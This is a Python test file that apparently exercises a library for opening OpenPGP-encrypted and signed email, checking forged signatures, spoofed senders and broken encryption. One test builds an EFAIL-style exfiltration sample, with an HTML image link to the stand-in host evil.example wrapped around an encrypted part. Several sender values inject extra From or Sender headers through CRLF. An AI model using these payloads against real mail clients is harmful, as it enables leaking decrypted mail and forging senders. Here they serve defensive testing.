@@ -1,0 +1,214 @@
+# SPDX-License-Identifier: AGPL-3.0-or-later
+"""Letters in every OpenPGP form, made with real keys, and what the agent is told of them."""
+
+from collections.abc import Iterator
+
+import pytest
+
+from desk.opened import EncryptionState, Opened, SignatureState
+from mail.opening import open_letter
+from tests.mail.people import Desk, Person, desk, encrypted, entity, headers, multipart, person, signed
+
+NONE, OK, PARTIAL = EncryptionState.NONE, EncryptionState.OK, EncryptionState.PARTIAL
+
+
+@pytest.fixture(scope="module", name="desk")
+def make_desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
+    with desk(tmp_path_factory.mktemp("keys") / "desk") as made:
+        yield made
+
+
+@pytest.fixture(scope="module", name="alice")
+def make_alice(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Person]:
+    with person("alice@user.example", tmp_path_factory.mktemp("keys") / "alice") as made:
+        yield made
+
+
+def states(opened: Opened) -> list[tuple[SignatureState, str]]:
+    return [(one.state, one.covers) for one in opened.signatures]
+
+
+def test_a_plain_letter_is_plain(desk: Desk) -> None:
+    opened = open_letter(headers("Alice <Alice@User.example>") + entity("Hello\nthere"), desk.keyring)
+    assert (opened.form, opened.encryption.state, opened.text) == ("plain", NONE, "Hello\nthere")
+    assert (opened.headers.sender, opened.headers.sender_name) == ("alice@user.example", "Alice")
+    assert (opened.headers.subject, opened.headers.message_id) == ("A question", "<m1@user.example>")
+    assert opened.signatures == ()
+    assert opened.problems == ()
+
+
+def test_an_encrypted_letter_is_opened(desk: Desk, alice: Person) -> None:
+    raw = headers(alice.address) + encrypted(alice.encrypt(entity("sécret"), desk.public))
+    opened = open_letter(raw, desk.keyring)
+    assert (opened.form, opened.encryption.state, opened.text) == ("pgp/mime encrypted", OK, "sécret")
+    assert len(opened.sessions) == 1
+
+
+def test_a_signature_inside_the_encryption_is_told(desk: Desk, alice: Person) -> None:
+    raw = headers(alice.address) + encrypted(alice.encrypt(entity("both"), desk.public, "--sign"))
+    opened = open_letter(raw, desk.keyring, signers=[alice.public])
+    assert opened.form == "pgp/mime encrypted and signed"
+    assert states(opened) == [(SignatureState.GOOD, "all")]
+    assert opened.signatures[0].fingerprint == alice.fingerprint
+
+
+def test_a_signed_letter_inside_an_encrypted_one_is_told(desk: Desk, alice: Person) -> None:
+    inside = signed(alice, entity("nested"))
+    raw = headers(alice.address) + encrypted(alice.encrypt(inside, desk.public))
+    opened = open_letter(raw, desk.keyring, signers=[alice.public])
+    assert (opened.form, opened.encryption.state) == ("pgp/mime encrypted, pgp/mime signed", OK)
+    assert (opened.text, states(opened)) == ("nested", [(SignatureState.GOOD, "all")])
+
+
+@pytest.mark.parametrize("line_end", [b"\r\n", b"\n"])
+def test_a_signature_holds_over_the_exact_bytes(desk: Desk, alice: Person, line_end: bytes) -> None:
+    # Folding, spaces and an empty last line that a parser would not write again like this.
+    content = entity("one \ntwo\t\n\n", "X-Odd:   a\r\n   folded =?utf-8?q?w=C3=B6rd?=  line")
+    raw = (headers(alice.address) + signed(alice, content)).replace(b"\r\n", line_end)
+    opened = open_letter(raw, desk.keyring, signers=[alice.public])
+    assert (opened.form, states(opened)) == ("pgp/mime signed", [(SignatureState.GOOD, "all")])
+    assert opened.text == "one \ntwo\t\n\n"
+
+
+def test_a_changed_signed_letter_is_bad(desk: Desk, alice: Person) -> None:
+    raw = headers(alice.address) + signed(alice, entity("pay 10"))
+    opened = open_letter(raw.replace(b"pay 10", b"pay 99"), desk.keyring, signers=[alice.public])
+    assert states(opened) == [(SignatureState.BAD, "all")]
+
+
+def test_a_signature_by_an_unknown_key_is_not_good(desk: Desk, alice: Person) -> None:
+    opened = open_letter(headers(alice.address) + signed(alice, entity("hi")), desk.keyring)
+    assert states(opened) == [(SignatureState.UNKNOWN_KEY, "all")]
+
+
+@pytest.mark.parametrize(
+    "sender",
+    [
+        "mallory@user.example",
+        "",
+        '"alice@user.example" <mallory@user.example>',
+        "mallory@user.example, alice@user.example",
+        "alice@user.example\r\nFrom: mallory@user.example",
+        "mallory@user.example\r\nSender: alice@user.example",
+    ],
+)
+def test_a_signature_by_another_than_the_sender_is_not_green(desk: Desk, alice: Person, sender: str) -> None:
+    opened = open_letter(headers(sender) + signed(alice, entity("hi")), desk.keyring, signers=[alice.public])
+    assert states(opened) == [(SignatureState.GOOD_OTHER_SENDER, "all")]
+
+
+def test_a_display_name_that_holds_another_address_is_told(desk: Desk) -> None:
+    opened = open_letter(headers('"boss@desk.example" <mallory@user.example>') + entity("hi"), desk.keyring)
+    assert opened.headers.sender == "mallory@user.example"
+    assert any("display name" in problem for problem in opened.problems)
+
+
+@pytest.mark.parametrize("subtype", ["mixed", "related", "alternative"])
+def test_a_signature_on_a_part_never_covers_the_words_beside_it(
+    desk: Desk, alice: Person, subtype: str
+) -> None:
+    letter = multipart(f"multipart/{subtype}", entity("UNSIGNED"), signed(alice, entity("signed")))
+    opened = open_letter(headers(alice.address) + letter, desk.keyring, signers=[alice.public])
+    assert (opened.form, states(opened)) == ("pgp/mime signed, in part", [(SignatureState.PARTIAL, "part")])
+    assert (opened.text, opened.unprotected_text) == ("signed", "UNSIGNED")
+
+
+def test_an_encrypted_part_is_opened_alone_and_told_as_a_part(desk: Desk, alice: Person) -> None:
+    """EFAIL's direct exfiltration: open quote before, close quote after."""
+    sealed = encrypted(alice.encrypt(entity("SECRET"), desk.public))
+    before = entity('<img src="http://evil.example/', type_="text/html")
+    after = entity('">', type_="text/html")
+    opened = open_letter(
+        headers(alice.address) + multipart("multipart/mixed", before, sealed, after), desk.keyring
+    )
+    assert (opened.encryption.state, opened.text) == (PARTIAL, "SECRET")
+    assert "SECRET" not in opened.unprotected_text
+    assert "evil.example" not in opened.text
+
+
+def test_an_inline_message_is_opened_and_words_around_it_stand_apart(desk: Desk, alice: Person) -> None:
+    armor = alice.encrypt("grüße".encode(), desk.public).decode()
+    alone = open_letter(headers(alice.address) + entity(armor), desk.keyring)
+    assert (alone.form, alone.encryption.state, alone.text) == ("inline encrypted", OK, "grüße")
+    beside = open_letter(headers(alice.address) + entity(f"before\n{armor}\nafter"), desk.keyring)
+    assert (beside.encryption.state, beside.text) == (PARTIAL, "grüße")
+    assert beside.unprotected_text == "before\n\nafter"
+
+
+def test_only_the_words_under_a_clear_signature_are_shown_as_signed(desk: Desk, alice: Person) -> None:
+    clear = alice.gpg("--clearsign", data=b"SIGNED\n").decode()
+    alone = open_letter(headers(alice.address) + entity(clear), desk.keyring, signers=[alice.public])
+    assert (alone.form, alone.text, alone.unprotected_text) == ("clearsigned", "SIGNED\n", "")
+    assert states(alone) == [(SignatureState.GOOD, "all")]
+    raw = headers(alice.address) + entity(f"PREPENDED\n{clear}\nAPPENDED")
+    around = open_letter(raw, desk.keyring, signers=[alice.public])
+    assert (around.text, around.unprotected_text) == ("SIGNED\n", "PREPENDED\n\nAPPENDED")
+    assert states(around) == [(SignatureState.PARTIAL, "part")]
+
+
+def test_the_words_under_a_bad_clear_signature_stand_outside(desk: Desk, alice: Person) -> None:
+    clear = alice.gpg("--clearsign", data=b"SIGNED\n").decode().replace("SIGNED\n", "FORGED\n", 1)
+    opened = open_letter(headers(alice.address) + entity(clear), desk.keyring, signers=[alice.public])
+    assert opened.text == ""
+    assert "FORGED" in opened.unprotected_text
+    assert [one.state for one in opened.signatures] == [SignatureState.BAD]
+
+
+def test_plain_packets_sent_as_encrypted_are_not_told_as_encrypted(desk: Desk, alice: Person) -> None:
+    literal = alice.gpg("--armor", "--store", data=entity("not secret"))
+    for letter in (encrypted(literal), entity(literal.decode())):
+        opened = open_letter(headers(alice.address) + letter, desk.keyring)
+        assert (opened.encryption.state, opened.text) == (NONE, "")
+        assert "not secret" in opened.unprotected_text
+        assert "The letter claims to be encrypted, but its content is not." in opened.problems
+
+
+def test_nothing_is_shown_of_a_message_without_integrity_protection(desk: Desk, alice: Person) -> None:
+    weak = alice.encrypt(entity("SECRET"), desk.public, "--rfc2440", "--disable-mdc", "--cipher-algo", "CAST5")
+    opened = open_letter(headers(alice.address) + encrypted(weak), desk.keyring)
+    assert opened.encryption.state is EncryptionState.BROKEN
+    assert "SECRET" not in repr(opened)
+
+
+@pytest.mark.parametrize("form", ["pgp/mime", "inline"])
+def test_nothing_is_shown_of_a_damaged_message(desk: Desk, alice: Person, form: str) -> None:
+    plain = entity("SECRET " * 20_000) if form == "pgp/mime" else b"SECRET " * 20_000
+    armor = alice.encrypt(plain, desk.public, "-z", "0").decode().split("\n")
+    del armor[-40:-20]
+    broken = "\n".join(armor)
+    letter = encrypted(broken.encode()) if form == "pgp/mime" else entity(broken)
+    opened = open_letter(headers(alice.address) + letter, desk.keyring)
+    assert opened.encryption.state is EncryptionState.BROKEN
+    assert "SECRET" not in repr(opened)
+
+
+def test_a_letter_to_somebody_else_cannot_be_opened(desk: Desk, alice: Person) -> None:
+    raw = headers(alice.address) + encrypted(alice.encrypt(entity("mine"), alice.public))
+    opened = open_letter(raw, desk.keyring)
+    assert (opened.encryption.state, opened.text) == (EncryptionState.UNDECRYPTABLE, "")
+
+
+def test_a_malformed_encrypted_letter_is_not_guessed_at(desk: Desk, alice: Person) -> None:
+    data = b"Content-Type: application/octet-stream\r\n\r\n" + alice.encrypt(entity("SECRET"), desk.public)
+    letter = multipart("multipart/encrypted", data)
+    opened = open_letter(headers(alice.address) + letter, desk.keyring)
+    assert (opened.encryption.state, opened.text) == (EncryptionState.BROKEN, "")
+    assert any("RFC 3156" in problem for problem in opened.problems)
+
+
+def test_the_form_that_exchange_leaves_is_repaired_and_told(desk: Desk, alice: Person) -> None:
+    version = b"Content-Type: application/pgp-encrypted\r\n\r\nVersion: 1\r\n"
+    data = b"Content-Type: application/octet-stream\r\n\r\n" + alice.encrypt(entity("safe"), desk.public)
+    letter = multipart("multipart/mixed", entity(""), version, data)
+    opened = open_letter(headers(alice.address) + letter, desk.keyring)
+    assert (opened.encryption.state, opened.text) == (OK, "safe")
+    assert any("repaired" in problem for problem in opened.problems)
+
+
+def test_layers_end_somewhere(desk: Desk, alice: Person) -> None:
+    letter = entity("deep")
+    for _ in range(6):
+        letter = encrypted(alice.encrypt(letter, desk.public))
+    opened = open_letter(headers(alice.address) + letter, desk.keyring)
+    assert any("too many layers" in problem for problem in opened.problems)
+    assert "deep" not in opened.text
